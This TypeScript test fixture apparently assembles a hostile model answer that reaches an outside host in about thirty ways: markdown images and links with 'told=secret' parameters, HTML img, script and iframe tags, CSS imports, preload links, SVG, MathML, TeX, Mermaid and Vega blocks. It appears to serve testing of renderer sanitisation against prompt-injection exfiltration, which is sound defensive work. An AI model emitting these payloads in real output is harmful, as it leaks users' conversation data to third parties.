// An answer of a model that was led astray: it points to a stranger in every way an answer can, some of them with words of the conversation.
import { mark } from "./hostile-texts.ts";

/** The way is in each address: what was asked for says how. */
const ways: readonly (readonly [name: string, written: (host: string) => string])[] = [
  ["a picture", (host) => `![moon](${host}/md-image.png?told=secret "title")`],
  ["a picture by reference", (host) => `![moon][far]\n\n[far]: ${host}/md-reference.png?told=secret`],
  ["a picture in a link", (host) => `[![moon](${host}/md-inner.png)](${host}/md-outer)`],
  ["a picture with a name of its own host", (host) => `![x](${host.replace("://", "://secret.")}/md-host.png)`],
  ["a picture without a scheme", (host) => `![x](${host.replace(/^https?:/, "")}/md-relative.png)`],
  ["a link", (host) => `[read on](${host}/md-link?told=secret) and <${host}/md-auto> and ${host}/md-bare`],
  ["a link without a scheme", (host) => `[read on](${host.replace(/^https?:/, "")}/md-scheme)`],
  [
    "HTML of a picture",
    (host) => `<img src="${host}/html-img.png" srcset="${host}/html-set.png 2x" onerror="${mark}">`,
  ],
  ["HTML of a picture in a sentence", (host) => `The moon <img src=${host}/html-inline.png> shines.`],
  ["a picture element", (host) => `<picture><source srcset="${host}/html-source.png"><img></picture>`],
  [
    "a style",
    (host) => `<style>@import url(${host}/html-import.css); body{background:url(${host}/html-body.png)}</style>`,
  ],
  ["a style on an element", (host) => `<p style="background:url(${host}/html-inline-style.png)">x</p>`],
  [
    "what is loaded ahead",
    (host) =>
      ["preload", "prefetch", "dns-prefetch", "preconnect", "modulepreload", "stylesheet", "icon", "manifest"]
        .map((rel) => `<link rel="${rel}" as="image" href="${host}/html-${rel}">`)
        .join(""),
  ],
  [
    "a frame",
    (host) => `<iframe src="${host}/html-frame"></iframe><frameset><frame src="${host}/html-frameset"></frameset>`,
  ],
  [
    "an object",
    (host) =>
      `<object data="${host}/html-object"></object><embed src="${host}/html-embed"><applet code="${host}/html-applet">`,
  ],
  [
    "sound and film",
    (host) =>
      `<video src="${host}/html-video" poster="${host}/html-poster" autoplay></video><audio src="${host}/html-audio" autoplay></audio><track src="${host}/html-track">`,
  ],
  [
    "a form that sends itself",
    (host) =>
      `<form action="${host}/html-form"><input type="image" src="${host}/html-input.png"><button formaction="${host}/html-button">x</button></form>`,
  ],
  [
    "a jump",
    (host) => `<meta http-equiv="refresh" content="0;url=${host}/html-refresh"><base href="${host}/html-base/">`,
  ],
  ["a script", (host) => `<script src="${host}/html-script.js"></script><script>fetch("${host}/html-fetch")</script>`],
  [
    "a drawing",
    (host) =>
      `<svg><image href="${host}/svg-image.png"/><use href="${host}/svg-use#x"/><use xlink:href="${host}/svg-xlink#x"/><feImage href="${host}/svg-filter"/></svg>`,
  ],
  ["MathML", (host) => `<math href="${host}/math-link"><mglyph src="${host}/math-glyph.png"/></math>`],
  [
    "a formula",
    (host) =>
      `$\\includegraphics{${host}/tex-image.png}$ $\\href{${host}/tex-link}{x}$ $\\url{${host}/tex-url}$ $\\htmlStyle{background:url(${host}/tex-style.png)}{x}$`,
  ],
  [
    "a diagram with a picture",
    (host) =>
      `\`\`\`mermaid\ngraph LR\n  A["<img src='${host}/mermaid-image.png'>"] --> B[moon]\n  click B "${host}/mermaid-click"\n  style B fill:url(${host}/mermaid-fill)\n\`\`\``,
  ],
  [
    "a diagram with a theme",
    (host) =>
      `\`\`\`mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"@import url(${host}/mermaid-theme.css); .node{background:url(${host}/mermaid-node.png)}","fontFamily":"x;}@import url(${host}/mermaid-font.css);"}}%%\ngraph LR\n  A --> B\n\`\`\``,
  ],
  [
    "a diagram of pictures",
    (host) =>
      `\`\`\`mermaid\nflowchart LR\n  A@{ img: "${host}/mermaid-shape.png", label: "moon" }\n  B@{ icon: "x:y" }\n\`\`\``,
  ],
  [
    "a diagram with a script",
    (host) =>
      `\`\`\`mermaid\nsequenceDiagram\n  participant A as <script>fetch("${host}/mermaid-script")</script>\n  link A: moon @ javascript:${mark}\n  A->>A: <iframe src="${host}/mermaid-frame"></iframe>\n\`\`\``,
  ],
  [
    "code in a language of its own",
    (host) => `\`\`\`html" style="background:url(${host}/code-style.png)\n<img src="${host}/code-image.png">\n\`\`\``,
  ],
  ["a drawing as code", (host) => `\`\`\`svg\n<svg><image href="${host}/code-svg.png"/></svg>\n\`\`\``],
  [
    "a chart as code",
    (host) =>
      `\`\`\`vega-lite\n{"data":{"url":"${host}/vega-data.json"},"mark":{"type":"image"},"encoding":{"url":{"value":"${host}/vega-image.png"}}}\n\`\`\``,
  ],
  [
    "a citation that is none",
    (host) => `The moon is far.[1](${host}/cite-link) [^1]\n\n[^1]: ![x](${host}/cite-note.png)`,
  ],
];

/** All of them in one answer, which ends with its last words. */
export const hostileAnswer = (host: string): string =>
  [...ways.map(([name, written]) => `**${name}**\n\n${written(host)}`), "The very end."].join("\n\n");
